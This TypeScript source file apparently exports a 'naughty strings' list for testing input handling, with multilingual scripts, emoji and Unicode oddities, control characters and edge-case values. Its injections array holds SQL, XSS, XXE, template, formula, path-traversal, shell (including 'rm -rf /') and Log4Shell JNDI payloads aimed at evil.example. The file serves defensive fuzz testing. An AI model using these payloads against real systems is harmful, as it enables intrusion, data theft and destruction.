const scripts = [
  'देवनागरी क्षत्रिय ज़िंदगी', // Devanagari, with conjuncts and a nukta
  'বাংলা হ্যাকাথন ক্ষ', // Bengali
  'ਗੁਰਮੁਖੀ ਸਿੱਖ', // Gurmukhi
  'ગુજરાતી શ્રીમતી', // Gujarati
  'ଓଡ଼ିଆ କ୍ଷମା', // Odia
  'தமிழ் ஸ்ரீ நாதன்', // Tamil
  'తెలుగు స్త్రీ', // Telugu
  'ಕನ್ನಡ ಕ್ಷೇತ್ರ', // Kannada
  'മലയാളം ക്ഷ ൻ', // Malayalam
  'সিংহ ৎ অসমীয়া ৰ', // Assamese
  'ꯃꯤꯇꯩ ꯃꯌꯦꯛ', // Meitei
  'ᱥᱟᱱᱛᱟᱲᱤ', // Ol Chiki
  'اردو میں نام', // Urdu
  'سنڌي ڪتاب', // Sindhi
  'සිංහල ක්‍ෂ', // Sinhala, with a joiner
  'བོད་ཡིག', // Tibetan
  '漢字とカタカナ 한국어',
  'עברית ועוד',
  'Ελληνικά Кириллица Türkçe İıŞş ẞß',
  '𝕳𝖆𝖈𝖐 𝟙𝟚𝟛 ＦＵＬＬ ｗｉｄｔｈ',
  'Ⅷ ½ ﬁ ﬀ ℡ ™ ①',
];

const shapes = [
  '👩‍👩‍👧‍👦 👨🏽‍💻 🏳️‍🌈 🇮🇳', // joined, coloured, flags
  '🫠🧑‍🚀🦕',
  'Zal̷̨̛̗̫go ḩ̶̛͍̫ȩ̴̷̛̫ comes',
  'e\u0301 is not é', // decomposed and composed, both kept
  '\u0301leading accent',
  'ﷺ ﷽ 𒐫 ꧅',
  '\u202Eright to left override\u202C',
  '\u2066isolated\u2069 \u200Fmark\u200E',
  'zero\u200Bwidth\u200Cand\u2060word\u00ADjoiners',
  'no\u00A0break\u202Fspaces\u3000wide',
  'line\u2028and\u2029paragraph separators',
  'last of the plane \u{10FFFF} \u{F0000} \uE000',
  'no characters \uFFFE \uFFFF \uFDD0',
  'replaced \uFFFD already',
  'byte order \uFEFF mark',
  '\uFEFFmark in front',
  'tags \u{E0041}\u{E0042}\u{E007F}',
  'variation \uFE0F selector ☎︎',
];

const controls = [
  'NUL \u0000 inside',
  '\u0000',
  'bell \u0007 back \u0008 escape \u001B[31mred\u001B[0m',
  'C1 \u0085 \u009B31m controls',
  'DEL \u007F inside',
  'tab\tinside',
  'CR LF\r\ninside\r\n\r\nBcc: all@x.example',
  'LF\ninside',
  'CR\rinside',
  'vertical \u000B form \u000C feed',
  '\u0001\u0002\u0003\u0004',
  'high \uD800 alone',
  'low \uDC00 alone',
  'turned \uDC00\uD800 round',
  '\uD83D',
  '  spaces around  ',
  '\u00A0\u2003\t',
];

const injections = [
  "Robert'); drop table teams;--",
  "' or '1'='1",
  '" or ""="',
  "1; update teams set payment_status = 'verified'",
  "\\'; select pg_sleep(10); --",
  '$$ $1 $2 :name ?',
  'O\u2019Brien-D\u2019Souza & Söhne, "quoted"',
  "Asha D'Mello",
  '%',
  '_',
  '%_%\\%',
  '100% of \\ and \\\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</script><script>alert(1)</script>',
  '</title></textarea></style><!--',
  '<!--head--> <!--data--> <!--/head-->',
  ']]> <![CDATA[ <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;',
  '&lt;b&gt; &amp;amp; &#x3C; &nbsp;',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://chat.whatsapp.com/x',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/?a=b&c=d#e',
  '//evil.example/path',
  '[link](javascript:alert(1)) **bold** `code`',
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}',
  '{{constructor.constructor("return 1")()}}',
  "$& $` $' $1 $<name> $$",
  '#import "x": * $ sum_(i) $ *bold* _it_ @ref <label> #sys.inputs',
  '\\input{/etc/passwd} \\def\\x{}',
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+91 98765 43210',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '=HYPERLINK("http://evil.example","x")',
  "'=already quoted",
  '_x003D_1+1 _x000D_',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'CON',
  'file.txt\u0000.png',
  'a/b:c*d?e"f<g>h|i',
  '.htaccess',
  '%s%s%n %d %x %p',
  '%00 %0d%0a %2e%2e%2f',
  '{0} {name!r} {:>10}',
  '$(touch /tmp/x) `id` ; rm -rf / | cat && true',
  '${jndi:ldap://evil.example/a}',
  '(){ :;}; echo x',
  '|cat /etc/passwd',
  '-rf --help',
  '*)(uid=*))(|(uid=*',
  '{"$gt": ""}',
  '[object Object]',
];

const words = [
  'null',
  'undefined',
  'NaN',
  'true',
  'Infinity',
  '-0',
  '0x10',
  '1e400',
  '007',
  '9007199254740993',
  '1,00,000',
  '١٢٣',
  '१२३',
  '2026-02-30',
  '0000-00-00',
  '+275760-09-13T00:00:00.001Z',
  '2026-12-01T25:61:61Z',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'toJSON',
  'length',
  'Null Nullable',
  'Scunthorpe General Hospital',
  'x'.repeat(10_000),
  'क्ष'.repeat(3_000),
  '👩‍💻'.repeat(1_000),
  'word '.repeat(2_000),
  '\n'.repeat(5_000),
];

export const naughtyStrings: readonly string[] = [
  ...scripts,
  ...shapes,
  ...controls,
  ...injections,
  ...words,
];
